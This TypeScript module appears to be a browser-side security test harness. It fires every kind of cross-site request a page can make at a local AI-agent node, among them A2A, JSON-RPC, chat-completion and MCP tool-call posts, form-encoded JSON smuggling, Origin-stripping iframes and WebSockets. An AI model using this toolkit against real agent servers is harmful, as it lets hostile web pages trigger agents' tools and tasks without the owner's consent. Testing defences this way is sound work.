/**
 * Every way in which a page can send requests to an address that its visitor reaches. This runs in the browser, so it refers to nothing
 * outside itself. Whether the page sees a response does not matter: the test checks what the node received.
 */
export interface Aim {
  /** The node's URL as the page writes it. */
  readonly node: string;
  /** A server of the page that responds to `/to?url=` with a redirect (307). */
  readonly own: string;
  /** A send in HTTP+JSON 1.0, in JSON-RPC, of an OpenAI client, and a call of an MCP tool. */
  readonly rest: string;
  readonly rpc: string;
  readonly chat: string;
  readonly mcp: string;
}

/** Returns how many requests it attempted. */
export async function attack({ node, own, rest, rpc, chat, mcp }: Aim): Promise<number> {
  let tried = 0;
  const waiting: Promise<unknown>[] = [];
  const attempt = (run: () => unknown): void => {
    tried += 1;
    try {
      waiting.push(Promise.resolve(run()).catch(() => undefined));
    } catch {
      // The browser blocks the attempt itself.
    }
  };
  const body = document.body;
  const put = (html: string): HTMLElement => {
    const holder = document.createElement('div');
    holder.innerHTML = html;
    body.append(holder);
    return holder;
  };
  const bodies: readonly (readonly [string, string])[] = [
    ['/message:send', rest],
    ['/a2a', rpc],
    ['/', rpc],
    ['/v1/chat/completions', chat],
    ['/mcp', mcp],
  ];
  for (const [path, text] of bodies) {
    const url = `${node}${path}`;
    const post = (init: RequestInit): void => attempt(() => fetch(url, { method: 'POST', body: text, ...init }));
    post({ headers: { 'Content-Type': 'application/json' } });
    post({ headers: { 'Content-Type': 'text/plain' } });
    post({ mode: 'no-cors' });
    post({ mode: 'no-cors', body: new Blob([text]) });
    post({ mode: 'no-cors', body: new Blob([text], { type: 'text/plain' }), credentials: 'include' });
    post({ mode: 'no-cors', keepalive: true, referrerPolicy: 'no-referrer' });
    post({ mode: 'no-cors', headers: { 'Content-Type': 'application/x-www-form-urlencoded' } });
    attempt(() => navigator.sendBeacon(url, text));
    attempt(() => navigator.sendBeacon(url, new Blob([text], { type: 'application/json' })));
    attempt(() => fetch(`${own}/to?url=${encodeURIComponent(url)}`, { method: 'POST', body: text, mode: 'no-cors' }));
    attempt(() => {
      const asked = new XMLHttpRequest();
      asked.open('POST', url);
      asked.setRequestHeader('Content-Type', 'text/plain');
      asked.send(text);
    });
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      attempt(() => {
        const name = `f${tried}`;
        const at = tried % 2 === 0 ? url : `${own}/to?url=${encodeURIComponent(url)}`;
        const holder = put(`<iframe name="${name}"></iframe><form method="post" enctype="${type}" target="${name}" action="${at}"></form>`);
        const field = document.createElement('input');
        // With text/plain a form's body is name=value, which can be a JSON document with one odd member.
        [field.name, field.value] = [`${text.slice(0, -1)},"x":"`, '"}'];
        const form = holder.querySelector('form');
        form?.append(field);
        form?.submit();
      });
    }
  }
  const tags = ['<img src="@">', '<script src="@"></script>', '<iframe src="@"></iframe>', '<link rel="stylesheet" href="@">'];
  const more = ['<object data="@"></object>', '<video src="@"></video>', '<link rel="prefetch" href="@">', '<embed src="@">'];
  for (const path of ['/tasks', '/.well-known/agent-card.json', '/api/parley/v1/tasks', '/metrics', '/v1/models']) {
    const url = `${node}${path}`;
    for (const tag of [...tags, ...more]) attempt(() => put(tag.replace('@', `${url}?${tried}`)));
    attempt(() => fetch(url));
    attempt(() => fetch(url, { mode: 'no-cors', credentials: 'include' }));
    attempt(() => fetch(`${own}/to?url=${encodeURIComponent(url)}`, { mode: 'no-cors' }));
    attempt(() => import(`${url}?module`));
    attempt(() => new Worker(url));
    attempt(() => new Audio(url).play());
  }
  for (const path of ['/tasks/x:subscribe', '/mcp']) attempt(() => new EventSource(`${node}${path}`));
  for (const path of ['/', '/a2a', '/mcp', '/message:stream']) attempt(() => new WebSocket(`${node.replace('http', 'ws')}${path}`));
  for (const method of ['DELETE', 'PUT', 'PATCH', 'OPTIONS']) attempt(() => fetch(`${node}/api/parley/v1/tasks/x`, { method }));
  attempt(() => fetch(`${node}/api/parley/v1/tasks/x:retry`, { method: 'POST', mode: 'no-cors' }));
  attempt(() => fetch(`${node}/tasks/x:cancel`, { method: 'POST', mode: 'no-cors' }));
  attempt(() => {
    const link = put(`<a href="#" ping="${node}/a2a">x</a>`).querySelector('a');
    link?.click();
  });
  // Requests without an Origin header.
  const script = `for (const [path, text] of ${JSON.stringify(bodies)}) {
    fetch('${node}' + path, { method: 'POST', body: text, mode: 'no-cors' });
    fetch('${node}' + path, { method: 'POST', body: text, headers: { 'Content-Type': 'application/json' } }).catch(() => {});
  }`.replaceAll('</', '<\\/');
  for (const frame of ['sandbox', 'data'] as const) {
    tried += bodies.length * 2;
    const inner = document.createElement('iframe');
    const page = `<script>${script}</script>`;
    if (frame === 'data') inner.src = `data:text/html,${encodeURIComponent(page)}`;
    else [inner.srcdoc] = [page, inner.setAttribute('sandbox', 'allow-scripts')];
    body.append(inner);
  }
  await Promise.race([Promise.all(waiting), new Promise((resolve) => setTimeout(resolve, 3000))]);
  await new Promise((resolve) => setTimeout(resolve, 500));
  return tried;
}
